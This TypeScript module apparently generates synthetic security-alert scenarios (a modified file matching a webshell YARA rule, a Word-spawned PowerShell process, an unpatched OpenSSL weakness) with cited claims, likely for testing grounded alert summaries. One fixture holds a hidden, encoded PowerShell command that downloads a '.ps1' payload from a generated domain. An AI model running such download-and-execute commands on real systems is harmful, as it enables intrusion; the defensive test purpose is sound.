import type { Random } from './random.ts'
import { item, type Scenario } from './scenario.ts'
import { sentence } from './sentence.ts'
import {
  clock,
  count,
  cve,
  date,
  hash,
  host,
  labelNumber,
  level,
  path,
  percent,
  polar,
  process,
  severity,
  size,
  technique,
  url,
  user,
} from './slots.ts'
import type { World } from './world.ts'

/** A file that changed, matched a YARA rule, and was or was not dealt with. */
export function fileChange(w: World, random: Random): Scenario {
  const file = random.pick([
    '/var/www/html/wp-content/uploads/cache.php',
    '/etc/ssh/sshd_config',
    'C:\\Users\\Public\\invoice_0423.exe',
    'C:\\ProgramData\\updater\\svchelper.dll',
    '/tmp/.x/kworkerd',
  ])
  const shown = () => path(file)
  return {
    name: 'file-change',
    items: {
      file: item('File', file.replaceAll('\\', '\\\\')),
      event: item('Change', 'modified'),
      sha: item('SHA-256 of the file', w.sha256),
      hashes: item('Hashes', `MD5=${w.md5.toUpperCase()},SHA256=${w.sha256.toUpperCase()}`),
      yara: item('YARA', `rule Webshell_Generic matched ${file}`),
      action: item('Response', 'quarantined: false, deleted: false', {
        facts: { quarantined: false, deleted: false },
      }),
      owner: item('Account', w.user),
      size: item('Size after', `${w.bytes} bytes`, { facts: { size_bytes: w.bytes } }),
      host: item('Host', w.host),
      time: item('Time', w.start.toISOString()),
      engines: item('VirusTotal', JSON.stringify({ positives: w.level, total: 71, malicious: 1, found: 1 })),
      share: item('Prevalence', `${w.percent}% of the hosts have this file`),
    },
    claims: [
      {
        parts: sentence`The file ${shown()} on ${host(w.host)} was ${polar('modified', 'not modified')} at ${clock(w.start, random)}.`,
        cites: ['file', 'event', 'host', 'time'],
      },
      { parts: sentence`Its SHA-256 is ${hash(w.sha256)}.`, cites: ['sha'] },
      { parts: sentence`The MD5 hash ${hash(w.md5)} was calculated for it.`, cites: ['hashes'] },
      { parts: sentence`The file was ${polar('not quarantined', 'quarantined')}.`, cites: ['action'] },
      { parts: sentence`It has ${polar('not been deleted', 'been deleted')}.`, cites: ['action'] },
      { parts: sentence`The YARA rule Webshell_Generic matched ${shown()}.`, cites: ['yara'] },
      { parts: sentence`The file is ${size(w.bytes, random)} in size.`, cites: ['size'] },
      { parts: sentence`${count(w.level, random)} of 71 engines flag the file.`, cites: ['engines'] },
      { parts: sentence`The file is present on ${percent(w.percent)} of the hosts.`, cites: ['share'] },
      {
        parts: sentence`Account ${user(w.user)} is named as owner of the change.`,
        cites: ['owner', 'event'],
      },
      {
        parts: sentence`On ${date(w.start, random)} ${host(w.host)} reported a change of ${shown()}.`,
        cites: ['host', 'event', 'file', 'time'],
      },
    ],
  }
}

/** One process that started another. */
export function processStart(w: World, random: Random): Scenario {
  const [parent = 'winword.exe', child = 'powershell.exe'] = random.some(
    ['winword.exe', 'powershell.exe', 'cmd.exe', 'rundll32.exe', 'mshta.exe', 'wscript.exe'],
    2,
  )
  const link = `http://${w.domain}/payload/${w.pid}.ps1`
  return {
    name: 'process-start',
    items: {
      parent: item('Parent program', `C:\\Windows\\System32\\${parent}`, { trust: 'attacker-controlled' }),
      image: item('Program', `C:\\Windows\\System32\\${child}`, { trust: 'attacker-controlled' }),
      line: item('Command line', `${child} -nop -w hidden -enc SQBFAFgA ; iwr ${link}`, {
        trust: 'attacker-controlled',
      }),
      pid: item('Process', `processId: ${w.pid}, parentProcessId: ${w.pid + 7}`),
      user: item('Account', w.user),
      host: item('Host', w.host),
      level: item('Level', String(w.level)),
      signature: item('Signature', 'signed: false'),
      technique: item('ATT&CK technique T1059.001', 'T1059.001 PowerShell (Execution)', {
        kind: 'technique',
        trust: 'knowledge-base',
      }),
    },
    claims: [
      {
        parts: sentence`${process(parent, 'chain')} started ${process(child, 'chain')} on ${host(w.host)}.`,
        cites: ['parent', 'image', 'host'],
      },
      {
        parts: sentence`${process(child, 'chain')} was spawned by ${process(parent, 'chain')}.`,
        cites: ['parent', 'image'],
      },
      {
        parts: sentence`The process ran with PID ${labelNumber(w.pid)} as ${user(w.user)}.`,
        cites: ['pid', 'user', 'image'],
      },
      { parts: sentence`The command line downloads from ${url(link)}.`, cites: ['line'] },
      { parts: sentence`The program is ${polar('not signed', 'signed')}.`, cites: ['signature'] },
      {
        parts: sentence`Execution through PowerShell (${technique('T1059.001')}) is the mapped technique.`,
        cites: ['technique'],
      },
      {
        parts: sentence`The alert has level ${level(w.level)}, which is ${severity(w.level)} severity.`,
        cites: ['level'],
      },
      { parts: sentence`The command line of ${process(child)} contains "-w hidden".`, cites: ['line'] },
    ],
  }
}

/** A known weakness on a host. */
export function weakness(w: World, random: Random): Scenario {
  const version = `${1 + random.below(9)}.${random.below(30)}.${random.below(20)}`
  return {
    name: 'weakness',
    items: {
      cve: item('Vulnerability', `${w.cve} affects openssl ${version} on ${w.host}`),
      severity: item('Severity', 'High'),
      score: item('CVSS', `base score ${(w.percent / 10).toFixed(1)}`),
      fixed: item('Status', 'fix available: false'),
      counts: item('Hosts with this weakness', `hosts: ${w.count}`, { facts: { hosts: w.count } }),
      published: item('Published', w.start.toISOString().slice(0, 10)),
    },
    claims: [
      { parts: sentence`${cve(w.cve)} affects openssl ${version} on ${host(w.host)}.`, cites: ['cve'] },
      { parts: sentence`${count(w.count, random)} hosts have this weakness.`, cites: ['counts'] },
      { parts: sentence`Its severity is high.`, cites: ['severity'] },
      { parts: sentence`A fix is ${polar('not available', 'available')}.`, cites: ['fixed'] },
      { parts: sentence`It was published on ${date(w.start, random)}.`, cites: ['published'] },
      { parts: sentence`${host(w.host)} is exposed through ${cve(w.cve)} in openssl.`, cites: ['cve'] },
    ],
  }
}
